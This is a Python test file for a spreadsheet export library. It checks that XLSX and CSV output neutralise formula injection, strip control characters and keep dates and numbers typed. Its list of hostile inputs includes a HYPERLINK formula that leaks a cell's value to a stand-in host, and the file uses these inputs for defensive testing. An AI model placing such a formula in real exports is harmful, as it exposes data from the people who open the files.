import csv
import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from mitra.lib import sheets
from mitra.lib.sheets import Percent

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A3,"Klik")',
    "+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "vertical\x0btab",
    "nul\x00byte",
]


class Table:
    def __init__(self, rows: list[list[sheets.Value]]) -> None:
        self.title = "Hostile: [values]?"
        self.headers = ["=header", "number", "date"]
        self.rows = rows


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_formula_like_text_is_written_as_a_string_cell_never_a_formula():
    content = sheets.to_xlsx([Table([[value, 1, None] for value in HOSTILE])])
    cells = _cells(content)
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if cell.column == 1]
    assert texts[0] == "=header"
    assert texts[1] == HOSTILE[0]
    assert "verticaltab" in texts and "nulbyte" in texts


def test_numbers_dates_and_shares_stay_typed():
    moment = datetime(2026, 3, 2, 14, 30)  # noqa: DTZ001 - a local time, as exports write them
    row: list[sheets.Value] = [-5, Decimal("1.50"), date(2026, 3, 2), moment, Percent(0.4)]
    table = Table([row])
    table.headers = ["a", "b", "c", "d", "e"]
    negative, decimal, day, when, share = _cells(sheets.to_xlsx([table]))[5:]
    assert (negative.value, negative.data_type) == (-5, "n")
    assert decimal.value == 1.5
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert when.value == moment and when.number_format == "yyyy-mm-dd hh:mm"
    assert share.value == 0.4 and share.number_format == "0%"


def test_a_cell_set_directly_is_still_saved_as_plain_text():
    workbook = sheets.new_workbook()
    sheet = workbook.create_sheet("x")
    sheet["A1"] = "=1+1"
    assert _cells(sheets.save(workbook))[0].data_type == "s"


def test_csv_puts_an_apostrophe_before_formula_like_text_and_drops_control_characters():
    text = sheets.to_csv(["=header"], [[value] for value in HOSTILE] + [[-3], [None]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    values = [row[0] for row in rows]
    assert values[0] == "'=header"
    assert values[1:7] == ["'" + value for value in HOSTILE[:6]]
    assert values[7:] == ["verticaltab", "nulbyte", "-3", ""]


def test_sheet_titles_lose_the_characters_excel_refuses():
    assert (
        sheets.sheet_title("Hostile: [values]?\x0b" + "x" * 40) == "Hostile   values  " + "x" * 13
    )
